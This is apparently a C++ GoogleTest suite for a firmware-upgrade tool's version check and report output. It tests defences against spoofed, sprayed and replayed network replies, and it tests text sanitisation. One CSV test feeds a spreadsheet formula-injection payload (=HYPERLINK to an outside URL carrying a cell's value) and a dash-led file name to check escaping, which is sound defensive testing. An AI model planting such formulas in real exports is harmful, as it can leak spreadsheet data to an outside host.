// The check after " OK." with a test clock: a scripted card answers (or not)
// each query, and the test steps time a second at a time as the product's
// timer does.
#include <arpa/inet.h>
#include <gtest/gtest.h>

#include <cstring>
#include <functional>
#include <map>

#include "protocol/packet.h"
#include "upgrade/session/session.h"
#include "upgrade/policy/verify.h"

namespace {

const uint32_t IP = htonl(0x0A450005u);  // 10.69.0.5

struct FakeVerifyPorts : VerifyPorts {
  std::vector<int64_t> queries;  // when each went out; the number of each is its place from 1
  std::vector<std::string> shown;
  bool listed = true;
  int64_t now = 0;
  uint64_t query(uint32_t) override {
    queries.push_back(now);
    return queries.size();
  }
  bool row_listed(uint32_t) override { return listed; }
  void show_result(const CardResult& card) override { shown.push_back(result_column_text(card)); }
};

// What the card says to a query sent at t ms: its version, or 0 for nothing.
using Card = std::function<uint32_t(int64_t)>;
// Whether the answer at t ms names another MAC than the card had.
using OtherMac = std::function<bool(int64_t)>;

const uint8_t CARD_MAC[6] = {0x00, 0x0a, 0xff, 0x00, 0x00, 0x05};

VerifyAnswer answer_of(uint32_t ip, uint32_t version, uint64_t query, bool other_mac = false) {
  VerifyAnswer a;
  a.ip = ip;
  a.version = version;
  std::memcpy(a.mac, CARD_MAC, 6);
  if (other_mac) a.mac[5] = 0x99;
  a.has_mac = true;
  a.query = query;
  return a;
}

struct Watched {
  Verifier verifier;
  FakeVerifyPorts ports;
  std::shared_ptr<Report> report = std::make_shared<Report>();

  explicit Watched(uint32_t image_version = 0x0105, CardOutcome outcome = CardOutcome::ok,
                   bool with_mac = true) {
    report->clock = [] { return LocalTime{2026, 1, 2, 3, 4, 5}; };
    CardResult card;
    card.ip = IP;
    card.image_version = image_version;
    if (with_mac) std::memcpy(card.mac, CARD_MAC, 6);
    report_card_start(report.get(), card);
    report_card(report.get(), "10.69.0.5", IP, outcome, "Flash write error !", 100);
    verifier_card_done(verifier, report, report_cards(report.get())[0]);
  }
  uint64_t latest() const { return ports.queries.size(); }
  void answer(uint32_t version, uint64_t query, bool other_mac = false) {
    verifier_answer(verifier, answer_of(IP, version, query, other_mac), ports.now);
  }
  // Steps time one second at a time up to until_ms; a query is answered at
  // once, and between the steps each of extra(t) is heard as well.
  void play(const Card& card, int64_t until_ms, const OtherMac& other = nullptr,
            const std::function<void(Watched&)>& extra = nullptr) {
    for (; ports.now <= until_ms; ports.now += 1000) {
      size_t asked = ports.queries.size();
      verifier_tick(verifier, ports, ports.now);
      if (ports.queries.size() > asked) {
        uint32_t version = card(ports.now);
        if (version) answer(version, latest(), other && other(ports.now));
      }
      if (extra) extra(*this);
      if (verifier.watches.empty() && ports.now > 0) return;
    }
  }
  CardResult result() { return report_cards(report.get())[0]; }
  std::string verified() { return outcome_verified_word(result().outcome); }
};

struct CheckCase {
  const char* name;
  Card card;
  std::string result;  // the Result column at the end
  std::string verified;
  int64_t settled_at_ms;  // the tick that gave the outcome
  int verified_seconds;   // in the kept report
  OtherMac other_mac = nullptr;
};

class Check : public testing::TestWithParam<CheckCase> {};

TEST_P(Check, Outcome) {
  const CheckCase& c = GetParam();
  Watched run;
  run.play(c.card, VERIFY_LIMIT_MS + 2000, c.other_mac);
  ASSERT_GE(run.ports.shown.size(), 2u);
  EXPECT_EQ(run.ports.shown.front(), "OK, checking ...");
  EXPECT_EQ(run.ports.shown.back(), c.result);
  EXPECT_EQ(run.verified(), c.verified);
  EXPECT_EQ(run.ports.now, c.settled_at_ms);
  EXPECT_EQ(run.result().verified_seconds, c.verified_seconds);
  EXPECT_TRUE(run.verifier.watches.empty());
  // Every second for the first two minutes, the first a second after the
  // line; then every 5 s.
  ASSERT_FALSE(run.ports.queries.empty());
  for (size_t i = 0; i < run.ports.queries.size(); ++i) {
    const int64_t expected =
        i < 120 ? 1000 * int64_t(i + 1) : VERIFY_FAST_MS + 5000 * int64_t(i - 119);
    EXPECT_EQ(run.ports.queries[i], expected) << i;
  }
}

const int64_t SETTLE = VERIFY_SETTLE_MS;

INSTANTIATE_TEST_SUITE_P(
    Cards, Check,
    testing::Values(
        // Old version until it restarts at 12 s, quiet for 60 s, then the new
        // one, every query answered with it for the settle period.
        CheckCase{"Applied",
                  [](int64_t t) -> uint32_t { return t < 12000 ? 0x0102 : t < 72000 ? 0 : 0x0105; },
                  "applied 1.05 in 72 s", "applied", 72000 + SETTLE, 72},
        // A first reply lost on the way is not the card's last word.
        CheckCase{"FirstReplyLostThenNewVersion",
                  [](int64_t t) -> uint32_t { return t == 1000 ? 0 : 0x0105; },
                  "applied 1.05 in 2 s", "applied", 2000 + SETTLE, 2},
        CheckCase{"QuietThenNewVersion",
                  [](int64_t t) -> uint32_t { return t <= 10000 ? 0 : 0x0105; },
                  "applied 1.05 in 11 s", "applied", 11000 + SETTLE, 11},
        CheckCase{"BackWithTheOldVersion",
                  [](int64_t t) -> uint32_t { return t < 12000 ? 0x0102 : t < 30000 ? 0 : 0x0102; },
                  "not applied: 1.02", "not_applied", 31000, 30},
        // A card silent 6 s and back with its old firmware is settled at once,
        // not when the limit runs out.
        CheckCase{"QuickRestartBackWithTheOldVersion",
                  [](int64_t t) -> uint32_t { return t < 2000 ? 0x0102 : t < 8000 ? 0 : 0x0102; },
                  "not applied: 1.02", "not_applied", 9000, 8},
        // The image's version, and no other, is the image applied.
        CheckCase{"BackWithANewerVersion",
                  [](int64_t t) -> uint32_t { return t < 12000 ? 0x0102 : t < 30000 ? 0 : 0x0200; },
                  "not applied: 2.00", "not_applied", 31000, 30},
        // Three queries in a row unanswered over 4 s are a restart; two are not.
        CheckCase{"ThreeLostRepliesThenTheOldVersion",
                  [](int64_t t) -> uint32_t { return t >= 10000 && t <= 12000 ? 0 : 0x0102; },
                  "not applied: 1.02", "not_applied", 14000, 13},
        CheckCase{"TwoLostRepliesThenTheOldVersion",
                  [](int64_t t) -> uint32_t { return t == 10000 || t == 11000 ? 0 : 0x0102; },
                  "not applied: 1.02", "not_applied", VERIFY_LIMIT_MS, 300},
        // Never seen restarting: decided at the limit only.
        CheckCase{"NeverRestarts", [](int64_t) -> uint32_t { return 0x0102; },
                  "not applied: 1.02", "not_applied", VERIFY_LIMIT_MS, 300},
        // A lost reply now and then is not a restart.
        CheckCase{"LossyButOld",
                  [](int64_t t) -> uint32_t { return (t / 1000) % 2 ? 0 : 0x0102; },
                  "not applied: 1.02", "not_applied", VERIFY_LIMIT_MS, 300},
        // The new version from another device at the card's address.
        CheckCase{"AnotherDeviceWithTheNewVersion",
                  [](int64_t t) -> uint32_t { return t < 12000 ? 0x0102 : t < 20000 ? 0 : 0x0105; },
                  "not applied: another device answers at this address (1.05)", "not_applied",
                  21000, 20, [](int64_t t) { return t >= 20000; }},
        // At the limit a card still answers when its last answer is at most
        // two periods old.
        CheckCase{"SilentForTheLastTenSeconds",
                  [](int64_t t) -> uint32_t { return t <= VERIFY_LIMIT_MS - 10000 ? 0x0102 : 0; },
                  "not applied: 1.02", "not_applied", VERIFY_LIMIT_MS, 300},
        CheckCase{"SilentForTheLastFifteenSeconds",
                  [](int64_t t) -> uint32_t { return t <= VERIFY_LIMIT_MS - 15000 ? 0x0102 : 0; },
                  "no answer", "no_answer", VERIFY_LIMIT_MS, 300},
        CheckCase{"NeverBack",
                  [](int64_t t) -> uint32_t { return t < 10000 ? 0x0102 : 0; }, "no answer",
                  "no_answer", VERIFY_LIMIT_MS, 300}),
    [](const testing::TestParamInfo<CheckCase>& info) { return info.param.name; });

// ---- The settle period: the image's version held over time, in answers
// to the check's own queries, and nothing else.

struct SettleCase {
  const char* name;
  Card card;
  std::string result;
  int64_t settled_at_ms;
  OtherMac other_mac = nullptr;
};

class Settle : public testing::TestWithParam<SettleCase> {};

TEST_P(Settle, Outcome) {
  const SettleCase& c = GetParam();
  Watched run;
  run.play(c.card, VERIFY_LIMIT_MS + SETTLE + 2000, c.other_mac);
  EXPECT_EQ(run.ports.shown.back(), c.result);
  EXPECT_EQ(run.ports.now, c.settled_at_ms);
  EXPECT_TRUE(run.verifier.watches.empty());
}

INSTANTIATE_TEST_SUITE_P(
    Cards, Settle,
    testing::Values(
        // Booted the image for one answer, silent, back on the old firmware
        // for good: the old version within the period settles it.
        SettleCase{"OneAnswerThenBackOnTheOld",
                   [](int64_t t) -> uint32_t {
                     return t < 3000 ? 0 : t == 3000 ? 0x0105 : t < 23000 ? 0 : 0x0100;
                   },
                   "not applied: 1.00", 24000},
        // Held 20 s of a 30 s period, then the old version.
        SettleCase{"FlipsBackInsideThePeriod",
                   [](int64_t t) -> uint32_t { return t < 20000 ? 0x0105 : 0x0100; },
                   "not applied: 1.00", 21000},
        // After the period the check is over: the recheck is what sees it.
        SettleCase{"FlipsBackAfterThePeriod",
                   [](int64_t t) -> uint32_t { return t <= 1000 + SETTLE ? 0x0105 : 0x0100; },
                   "applied 1.05 in 1 s", 1000 + SETTLE},
        // One lost reply breaks the period: it starts again at the next answer.
        SettleCase{"ALostReplyStartsThePeriodAgain",
                   [](int64_t t) -> uint32_t { return t == 10000 ? 0 : 0x0105; },
                   "applied 1.05 in 11 s", 11000 + SETTLE},
        // The new version once, then silent for good.
        SettleCase{"SilentAfterOneAnswer",
                   [](int64_t t) -> uint32_t { return t == 3000 ? 0x0105 : 0; }, "no answer",
                   VERIFY_LIMIT_MS},
        // Back near the limit: its period runs past it.
        SettleCase{"BackJustBeforeTheLimit",
                   [](int64_t t) -> uint32_t { return t < VERIFY_LIMIT_MS - 5000 ? 0 : 0x0105; },
                   "applied 1.05 in 295 s", VERIFY_LIMIT_MS - 5000 + SETTLE},
        // Answering every other query with the new version never holds it.
        SettleCase{"NewVersionEveryOtherQuery",
                   [](int64_t t) -> uint32_t { return (t / 1000) % 2 ? 0x0105 : 0; },
                   "not applied: the image's version did not hold (1.05)",
                   VERIFY_LIMIT_MS + 1000},
        // Another device takes the address half-way through the period.
        SettleCase{"AnotherDeviceInsideThePeriod",
                   [](int64_t) -> uint32_t { return 0x0105; },
                   "not applied: another device answers at this address (1.05)", 16000,
                   [](int64_t t) { return t >= 15000; }}),
    [](const testing::TestParamInfo<SettleCase>& info) { return info.param.name; });

// A sprayer forges the card's new version from its address to every port,
// every 1.2 to 2.6 s, while the card restarts; the best it can do is land
// on the latest query's socket (the transport tags it with that query).
// Its replies never answer every query, and once the card is back on the
// old firmware it is not applied.
TEST(SettleRule, SprayedRepliesNeverHoldTheVersion) {
  for (const int64_t back_at : {int64_t{60000}, int64_t{-1}}) {
    Watched run;
    int64_t next_spray = 1500;
    const int64_t gaps[] = {1200, 2600, 1300, 1900, 1200, 2200};
    size_t gap = 0;
    verifier_take(run.verifier, run.ports, 0);
    // Time moves in 100 ms steps; the card answers only once it is back.
    for (; run.ports.now <= VERIFY_LIMIT_MS + 2000 && !run.verifier.watches.empty();
         run.ports.now += 100) {
      const size_t asked = run.ports.queries.size();
      verifier_tick(run.verifier, run.ports, run.ports.now);
      if (run.ports.queries.size() > asked && back_at >= 0 && run.ports.now >= back_at)
        run.answer(0x0100, run.latest());
      if (run.ports.now >= next_spray) {
        run.answer(0x0105, run.latest());
        next_spray += gaps[gap++ % std::size(gaps)];
      }
    }
    SCOPED_TRACE(back_at);
    EXPECT_TRUE(run.verifier.watches.empty());
    EXPECT_EQ(run.verified(), "not_applied");
    ASSERT_FALSE(run.ports.shown.empty());
    EXPECT_EQ(run.ports.shown.back(), back_at >= 0 ? "not applied: 1.00"
                                                   : "not applied: the image's version did not hold (1.05)");
  }
}

// A replayed answer, or one more reply than queries, counts once: the
// period needs an answer to each query, the fifth at the least.
TEST(SettleRule, ReplayedAnswersCountForNothing) {
  // Every answer heard twice, and the first one replayed after every query.
  Watched twice;
  twice.verifier.settle_ms = 1000;
  twice.play([](int64_t) -> uint32_t { return 0x0105; }, 60000, nullptr, [](Watched& w) {
    w.answer(0x0105, w.latest());
    w.answer(0x0105, 1);
  });
  EXPECT_EQ(twice.ports.shown.back(), "applied 1.05 in 1 s");
  EXPECT_EQ(twice.ports.now, 6000);  // the tick after the fifth answer, not the third
  // The card answered its first query only: the replay of that answer to
  // every later query proves nothing.
  Watched replayed;
  replayed.play([](int64_t t) -> uint32_t { return t == 1000 ? 0x0105 : 0; }, VERIFY_LIMIT_MS,
                nullptr, [](Watched& w) { w.answer(0x0105, 1); });
  EXPECT_EQ(replayed.ports.shown.back(), "no answer");
  // Nor does an answer that names no query, or one late for its query.
  Watched unasked;
  unasked.play([](int64_t) -> uint32_t { return 0; }, VERIFY_LIMIT_MS, nullptr, [](Watched& w) {
    w.answer(0x0105, 0);
    if (w.latest() > 1) w.answer(0x0105, w.latest() - 1);
  });
  EXPECT_EQ(unasked.ports.shown.back(), "no answer");
}

// After the run an applied card is asked again: the image's version held
// leaves it as it was; another version is a fall back, named in every text.
TEST(SettleRule, RecheckFindsACardThatFellBack) {
  for (const uint32_t later : {0x0105u, 0x0100u}) {
    Watched run;
    run.play([](int64_t) -> uint32_t { return 0x0105; }, 60000);
    ASSERT_EQ(run.verified(), "applied");
    const size_t shown = run.ports.shown.size();
    run.ports.now = 600000;
    verifier_recheck(run.verifier, run.report, run.result(), run.ports.now);
    run.play([later](int64_t) -> uint32_t { return later; }, 700000);
    EXPECT_TRUE(run.verifier.watches.empty());
    const CardResult card = run.result();
    EXPECT_EQ(card.verified_seconds, 1);
    if (later == 0x0105) {
      EXPECT_EQ(run.ports.shown.size(), shown);
      EXPECT_EQ(card.verdict, Verdict::applied);
      EXPECT_EQ(run.ports.now, 601000 + SETTLE);
      continue;
    }
    EXPECT_EQ(run.ports.now, 602000);  // the tick after its first answer
    EXPECT_EQ(card.verdict, Verdict::not_applied);
    EXPECT_EQ(result_column_text(card), "not applied: fell back to 1.00");
    EXPECT_EQ(failure_words(card), "not applied (fell back to 1.00)");
    EXPECT_EQ(check_line_text(card), "Not applied : fell back to 1.00 .");
  }
}

// Nothing is believed but an answer to the check's own query: what came
// before it asked settles nothing, and a datagram that contests an answer
// leaves the card not applied.
TEST(Check, OnlyAnUncontestedAnswerToItsQueryIsBelieved) {
  Watched run;
  verifier_tick(run.verifier, run.ports, 0);
  run.answer(0x0105, 1);  // asked nothing yet
  verifier_tick(run.verifier, run.ports, 999);
  ASSERT_EQ(run.verifier.watches.size(), 1u);
  EXPECT_FALSE(run.verifier.watches[0].seen_image);
  EXPECT_TRUE(run.ports.queries.empty());

  run.ports.now = 1000;
  verifier_tick(run.verifier, run.ports, 1000);
  ASSERT_EQ(run.ports.queries.size(), 1u);
  run.answer(0x0105, 1);
  VerifyAnswer contest;
  contest.ip = IP;
  contest.contested = true;
  verifier_answer(run.verifier, contest, 1020);
  verifier_tick(run.verifier, run.ports, 1030);
  EXPECT_TRUE(run.verifier.watches.empty());
  EXPECT_EQ(run.verified(), "not_applied");
  EXPECT_EQ(run.result().message, CONTESTED_TEXT);

  // Without a MAC known before the upgrade, the version alone decides.
  Watched unknown(0x0105, CardOutcome::ok, false);
  unknown.play([](int64_t) -> uint32_t { return 0x0105; }, 60000, [](int64_t) { return true; });
  EXPECT_EQ(unknown.verified(), "applied");
}

TEST(Check, ImageWithoutVersionOrFailedCardIsNotWatched) {
  Watched unversioned(IMAGE_VERSION_NONE);
  unversioned.play([](int64_t) -> uint32_t { return 0x0105; }, 20000);
  EXPECT_EQ(unversioned.ports.shown, std::vector<std::string>{"OK, not verified"});
  EXPECT_EQ(unversioned.verified(), "not_verified");
  EXPECT_TRUE(unversioned.ports.queries.empty());

  Watched failed(0x0105, CardOutcome::card_error);
  failed.play([](int64_t) -> uint32_t { return 0x0105; }, 20000);
  EXPECT_EQ(failed.ports.shown, std::vector<std::string>{"Flash write error !"});
  EXPECT_TRUE(failed.ports.queries.empty());
}

TEST(Check, RemovedRowStopsTheWatchWithoutAnOutcome) {
  Watched run;
  run.play([](int64_t) -> uint32_t { return 0; }, 20000);
  run.ports.listed = false;
  run.play([](int64_t) -> uint32_t { return 0x0105; }, 40000);
  EXPECT_TRUE(run.verifier.watches.empty());
  EXPECT_EQ(run.ports.shown, std::vector<std::string>{"OK, checking ..."});
  EXPECT_EQ(run.verified(), "");
  EXPECT_EQ(run.ports.queries.size(), 20u);
}

// Seconds are counted from the tick that took the line to the answer that
// began the settle period, to the nearest second.
TEST(Check, SecondsRoundToTheNearest) {
  for (auto [answer_ms, seconds] : {std::pair<int64_t, int>{1499, 1}, {1500, 2}, {1999, 2}}) {
    Watched run;
    run.verifier.settle_ms = 5000;
    verifier_tick(run.verifier, run.ports, 0);
    run.ports.now = 1000;
    verifier_tick(run.verifier, run.ports, 1000);
    ASSERT_EQ(run.ports.queries.size(), 1u);
    run.ports.now = answer_ms;
    run.answer(0x0105, 1);
    for (run.ports.now = 2000; run.ports.now < answer_ms + 5000; run.ports.now += 1000) {
      verifier_tick(run.verifier, run.ports, run.ports.now);
      run.answer(0x0105, run.latest());
    }
    verifier_tick(run.verifier, run.ports, answer_ms + 5000 - 1);
    EXPECT_EQ(run.ports.shown.back(), "OK, checking ...") << "applied before its period";
    verifier_tick(run.verifier, run.ports, answer_ms + 5000);
    EXPECT_EQ(run.ports.shown.back(), "applied 1.05 in " + std::to_string(seconds) + " s");
    EXPECT_EQ(report_cards(run.report.get())[0].verified_seconds, seconds) << answer_ms;
  }
}

// A reply speaks for its sender only: another card's new version settles
// nothing here.
TEST(Check, AnotherCardsReplyIsNotThisCardsAnswer) {
  Watched run;
  const uint32_t other = htonl(0x0A450006u);
  for (; run.ports.now <= VERIFY_LIMIT_MS; run.ports.now += 1000) {
    size_t asked = run.ports.queries.size();
    verifier_tick(run.verifier, run.ports, run.ports.now);
    if (run.ports.queries.size() > asked)
      verifier_answer(run.verifier, answer_of(other, 0x0105, run.latest()), run.ports.now);
  }
  EXPECT_EQ(run.ports.shown.back(), "no answer");
  EXPECT_EQ(run.verified(), "no_answer");
}

// The same card upgraded again by a later batch: only the later batch's
// check goes on, and the earlier report keeps its card unsettled.
TEST(Check, ALaterBatchTakesOverTheCardsWatch) {
  Watched first;
  verifier_tick(first.verifier, first.ports, 0);
  auto later = std::make_shared<Report>();
  later->clock = first.report->clock;
  CardResult card;
  card.ip = IP;
  card.image_version = 0x0105;
  report_card_start(later.get(), card);
  report_card(later.get(), "10.69.0.5", IP, CardOutcome::ok, "", 100);
  verifier_card_done(first.verifier, later, report_cards(later.get())[0]);
  first.ports.now = 1000;
  first.play([](int64_t) -> uint32_t { return 0x0105; }, 60000);
  EXPECT_TRUE(first.verifier.watches.empty());
  EXPECT_EQ(first.verified(), "");
  EXPECT_STREQ(outcome_verified_word(report_cards(later.get())[0].outcome), "applied");
  // Asked a second after the later line, by one watch, every second.
  ASSERT_FALSE(first.ports.queries.empty());
  EXPECT_EQ(first.ports.queries.front(), 2000);
  EXPECT_EQ(first.ports.queries.size(), size_t(SETTLE / 1000));
}

TEST(Check, TakenLineShowsAtOnceAndIsFirstAskedAPeriodLater) {
  Watched run;
  run.ports.now = 700;
  verifier_take(run.verifier, run.ports, run.ports.now);
  EXPECT_EQ(run.ports.shown, std::vector<std::string>{"OK, checking ..."});
  ASSERT_EQ(run.verifier.watches.size(), 1u);
  EXPECT_EQ(run.verifier.watches[0].next_query_ms, 700 + VERIFY_FAST_PERIOD_MS);
  verifier_tick(run.verifier, run.ports, 1000);  // nothing left to take: shown once, not due
  EXPECT_EQ(run.ports.shown.size(), 1u);
  EXPECT_TRUE(run.ports.queries.empty());
}

TEST(Outcome, EachRendersItsLineWordsAndColumn) {
  struct Row {
    CardOutcome outcome;
    const char* line;
    const char* result;
    const char* verified;
    const char* column;
  };
  const Row rows[] = {
      {CardOutcome::ok, LINE_OK, "ok", "", "OK, checking ..."},
      {CardOutcome::timeout, LINE_TIMEOUT, "timeout", "", "Timeout."},
      {CardOutcome::card_error, nullptr, "card_error", "", "Bad password"},
      {CardOutcome::aborted, LINE_ABORTED, "aborted", "", "User Aborted !"},
      {CardOutcome::no_connection, LINE_NO_CONNECTION, "no_connection", "", "No connection"},
      {CardOutcome::socket_error, LINE_SOCKET_ERROR, "socket_error", "", "Socket Error !"},
      {CardOutcome::no_memory, LINE_NO_MEMORY, "no_memory", "", "Out of memory"},
      {CardOutcome::too_large, LINE_TOO_LARGE, "too_large", "", "Image too large for the card"},
      {CardOutcome::no_session, LINE_NO_SESSION, "no_session", "", "No session could be started"},
      {CardOutcome::applied, LINE_OK, "ok", "applied", "applied 1.05 in 74 s"},
      {CardOutcome::not_applied, LINE_OK, "ok", "not_applied", "not applied: 1.05"},
      {CardOutcome::no_answer, LINE_OK, "ok", "no_answer", "no answer"},
      {CardOutcome::not_verified, LINE_OK, "ok", "not_verified", "OK, not verified"},
      {CardOutcome::skipped_version, nullptr, "skipped_version", "", "skipped: 2.00"},
  };
  for (const Row& row : rows) {
    CardResult card;
    card.outcome = row.outcome;
    card.message = row.outcome == CardOutcome::not_applied ? "" : "Bad password";
    card.version_before = 0x0200;
    card.answered_version = 0x0105;
    card.verified_seconds = 74;
    SCOPED_TRACE(row.result + std::string("/") + row.verified);
    EXPECT_STREQ(outcome_line(row.outcome), row.line);
    EXPECT_STREQ(outcome_result_word(row.outcome), row.result);
    EXPECT_STREQ(outcome_verified_word(row.outcome), row.verified);
    EXPECT_EQ(result_column_text(card), row.column);
  }
  // A check that heard another device says so, in the column and the report.
  CardResult other;
  other.outcome = CardOutcome::not_applied;
  other.answered_version = 0x0105;
  other.message = ANOTHER_DEVICE_TEXT;
  EXPECT_EQ(result_column_text(other), "not applied: another device answers at this address (1.05)");
  EXPECT_EQ(report_message(other), "another device answers at this address");
  CardResult skipped;
  skipped.outcome = CardOutcome::skipped_version;
  skipped.version_before = 0x0105;
  EXPECT_EQ(report_message(skipped), "Skipped : version 1.05 .");
}

// A card's text arrives as bytes in any state; what is shown is UTF-8 with
// no control character left, cut on a character boundary.
TEST(CardText, CleanedOfControlsAndBrokenSequences) {
  const std::string fffd = "\xEF\xBF\xBD";
  struct Case {
    std::string sent, shown;
  } cases[] = {
      {"Flash write error !", "Flash write error !"},
      {"a\r\nb\tc\x7f" "d", "a  b c d"},                          // C0 and DEL
      {"\xC2\x9B" "31m red \xC2\x85" "x \xC2\x80", " 31m red  x  "},  // C1 as UTF-8
      {"caf\xC3\xA9 \xE2\x82\xAC \xF0\x9F\x94\xA5", "caf\xC3\xA9 \xE2\x82\xAC \xF0\x9F\x94\xA5"},
      {"\x9B" "2J", fffd + "2J"},                                  // a lone C1 byte
      {"\xE9t\xE9", fffd + "t" + fffd},                            // Latin-1, not UTF-8
      {"\xC0\xAF \xE0\x80\xAF", fffd + fffd + " " + fffd + fffd + fffd},  // overlong
      {"\xED\xA0\x80", fffd + fffd + fffd},                        // a surrogate
      {"\xF4\x90\x80\x80", fffd + fffd + fffd + fffd},            // past U+10FFFF
      {"cut \xE2\x82", "cut " + fffd + fffd},                      // ends inside one
      {"\xE2\x80\xAE" "KO \xE2\x80\xA8" "x", " KO  x"},            // direction, line marks
  };
  for (const Case& c : cases) EXPECT_EQ(report_safe_text(c.sent), c.shown) << c.sent;

  std::string euros;
  for (int i = 0; i < 300; ++i) euros += "\xE2\x82\xAC";
  std::string cut;
  for (int i = 0; i < 197; ++i) cut += "\xE2\x82\xAC";
  EXPECT_EQ(report_safe_text(euros), cut + "...");  // characters, not bytes
  EXPECT_EQ(report_safe_text(euros.substr(0, 600)), euros.substr(0, 600));  // the limit itself
}

TEST(CardText, MessagesThatReadLikeTheProgramsOwnAreQuoted) {
  const char* quoted[] = {"OK.", "ok", "  OK, checking ...", "Timeout.", "TIMEOUT",
                          "User Aborted !", "No connection , abort.", "Skipped : version 9.99 .",
                          "applied 1.05 in 3 s", "Not applied: 1.00", "Socket Error !",
                          "Out of memory", "Image too large for the card", "No session",
                          "no answer", "Card error: \"x\"", "Report saved: C:\\x.csv"};
  for (const char* m : quoted)
    EXPECT_EQ(card_message_text(m), "Card error: \"" + std::string(m) + "\"") << m;
  for (const char* m : {"Flash write error !", "Wrong password", "", "   ", "Bad OK."})
    EXPECT_EQ(card_message_text(m), m) << m;

  // Every text the program itself puts after an address, fed back as a
  // card's message, is quoted: the word list follows the outcomes.
  for (int o = 0; o <= static_cast<int>(CardOutcome::skipped_version); ++o) {
    CardResult own;
    own.outcome = static_cast<CardOutcome>(o);
    own.version_before = own.answered_version = 0x0105;
    if (own.outcome == CardOutcome::card_error) continue;
    for (const std::string& text : {report_message(own), result_column_text(own)})
      EXPECT_EQ(card_message_text(text).rfind("Card error: ", 0), 0u) << text;
  }

  // The report line, the Result column and the CSV cell alike.
  Report report;
  report_card(&report, "10.69.0.5", text_to_ip("10.69.0.5"), CardOutcome::card_error, "OK.", 0);
  EXPECT_EQ(report.text, "10.69.0.5 Card error: \"OK.\"\r\n");
  CardResult card = report_cards(&report).at(0);
  EXPECT_EQ(result_column_text(card), "Card error: \"OK.\"");
  EXPECT_NE(report_csv({card}).find(",card_error,\"Card error: \"\"OK.\"\"\","), std::string::npos);

  // The card's message and the image's path are text from outside.
  card.message = "=HYPERLINK(\"http://x\"&A1,\"Wrong password - click\")";
  card.image = "-x.bin";
  EXPECT_NE(report_csv({card}).find(",'-x.bin,"), std::string::npos);
  EXPECT_NE(report_csv({card}).find(",\"'=HYPERLINK("), std::string::npos);
}

// A reply that names no MAC cannot speak for a card whose MAC is known:
// the image's version in it proves nothing.
TEST(Check, AnAnswerWithoutAMacIsNotTheCards) {
  Watched run;
  for (; run.ports.now <= 60000; run.ports.now += 1000) {
    const size_t asked = run.ports.queries.size();
    verifier_tick(run.verifier, run.ports, run.ports.now);
    if (run.verifier.watches.empty() && run.ports.now > 0) break;
    if (run.ports.queries.size() == asked) continue;
    VerifyAnswer a = answer_of(IP, 0x0105, run.ports.queries.size());
    a.has_mac = false;
    verifier_answer(run.verifier, a, run.ports.now);
  }
  EXPECT_EQ(run.verified(), "not_applied");
  EXPECT_EQ(run.result().message, ANOTHER_DEVICE_TEXT);
}

}  // namespace
